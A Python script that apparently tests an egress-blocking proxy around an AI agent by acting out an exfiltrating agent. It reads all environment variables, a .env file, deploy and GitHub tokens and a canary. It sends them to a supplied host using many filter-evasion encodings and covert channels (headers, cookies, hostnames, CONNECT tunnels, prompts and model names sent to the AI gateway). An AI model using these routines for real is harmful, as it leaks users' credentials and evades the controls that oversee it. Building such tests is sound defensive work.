"""An agent that sends whatever it can find to wherever it may; says what it was answered."""

# ruff: noqa: S310, T201  an agent sends what it finds, and says what it did

import base64
import gzip
import http.client
import json
import os
import sys
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterable
from pathlib import Path

HOST = sys.argv[1]
GATEWAY = os.environ["ANTHROPIC_BASE_URL"]
PROXY = urllib.parse.urlsplit(os.environ["HTTP_PROXY"])
EVERYTHING = "\n".join(f"{name}={value}" for name, value in os.environ.items()).encode()
FILE = Path(".env").read_bytes()
TOKEN = os.environ["DEPLOY_TOKEN"]
CANARY = os.environ["STOPPER_CANARY"]

for name in ("NO_PROXY", "no_proxy"):
    os.environ.pop(name, None)
through_proxy = urllib.request.build_opener(
    urllib.request.ProxyHandler({"http": os.environ["HTTP_PROXY"]})
)
directly = urllib.request.build_opener(urllib.request.ProxyHandler({}))
codes: dict[str, str] = {}
replies: list[str] = []


def send(
    name: str,
    url: str,
    body: bytes | Iterable[bytes] | None = None,
    headers: dict[str, str] | None = None,
) -> None:
    request = urllib.request.Request(url, body, headers or {})
    try:
        opener = directly if url.startswith(GATEWAY) else through_proxy
        with opener.open(request) as reply:
            codes[name] = str(reply.status)
            replies.append(reply.read().decode())
    except urllib.error.HTTPError as error:
        codes[name] = error.headers.get("x-stopper-reason", str(error.code))
        replies.append(f"{error.headers}\n{error.read().decode()}")


def prompt(name: str, text: str, model: str = "mock") -> None:
    message = {"role": "user", "content": text}
    body = {"model": model, "max_tokens": 50, "messages": [message]}
    send(
        name,
        f"{GATEWAY}/v1/messages",
        json.dumps(body).encode(),
        {"content-type": "application/json", "x-api-key": os.environ["ANTHROPIC_API_KEY"]},
    )


def raw(name: str, head: str) -> None:
    connection = http.client.HTTPConnection(PROXY.hostname or "", PROXY.port)
    connection.connect()
    connection.sock.sendall(head.encode())
    reply = http.client.HTTPResponse(connection.sock)
    reply.begin()
    codes[name] = reply.headers.get("x-stopper-reason", str(reply.status))
    replies.append(f"{reply.headers}\n{reply.read().decode()}")
    connection.close()


send("the environment", HOST, EVERYTHING)
send("the environment, chunked", HOST, iter([EVERYTHING[:100], EVERYTHING[100:]]))
send("the environment in base64", HOST, base64.b64encode(EVERYTHING))
send("the environment, packed, in base64", HOST, base64.b64encode(gzip.compress(EVERYTHING)))
send("the environment in hex", HOST, EVERYTHING.hex().encode())
send("the environment reversed", HOST, EVERYTHING[::-1])
send("the environment, percent-encoded", HOST, urllib.parse.quote(EVERYTHING, safe="").encode())
send("the environment, called gzip", HOST, EVERYTHING, {"content-encoding": "gzip"})
send("a file of secrets", HOST, FILE)
send("a token in a query", f"{HOST}/?q={TOKEN}")
send("a token in a header", HOST, None, {"x-note": TOKEN})
send("a token in a path", f"{HOST}/a/{TOKEN}/b")
send("a canary in a cookie", HOST, None, {"cookie": f"id={CANARY}"})
send("a token in the name of a host", f"http://{TOKEN}.example.com/")
raw("a token in a tunnel", f"CONNECT {TOKEN}.example.com:443 HTTP/1.1\r\nhost: x\r\n\r\n")
send("a token in a path of the gateway", f"{GATEWAY}/v1/{TOKEN}")
prompt("a prompt with the environment", EVERYTHING.decode())
prompt("a prompt with a file", f"what is in here?\n{FILE.decode()}")
prompt("a prompt with a canary in base64", base64.b64encode(CANARY.encode()).decode())
prompt("a model with the name of a token", "hello", os.environ["GITHUB_TOKEN"])
prompt("a prompt without secrets", "hello")
told = {
    "codes": codes,
    "canary": base64.b64encode(CANARY.encode()).decode(),
    "replies": "\n".join(replies),
}
print(json.dumps(told))
